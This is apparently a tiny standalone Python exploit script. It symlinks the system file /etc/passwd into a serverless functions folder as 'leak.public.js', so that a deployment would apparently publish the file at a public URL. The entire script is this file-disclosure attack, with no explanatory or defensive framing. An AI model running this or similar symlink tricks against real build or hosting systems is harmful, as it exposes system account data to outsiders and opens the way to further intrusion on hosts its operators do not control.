import os

os.symlink("/etc/passwd", "functions/svc/functions/leak.public.js")
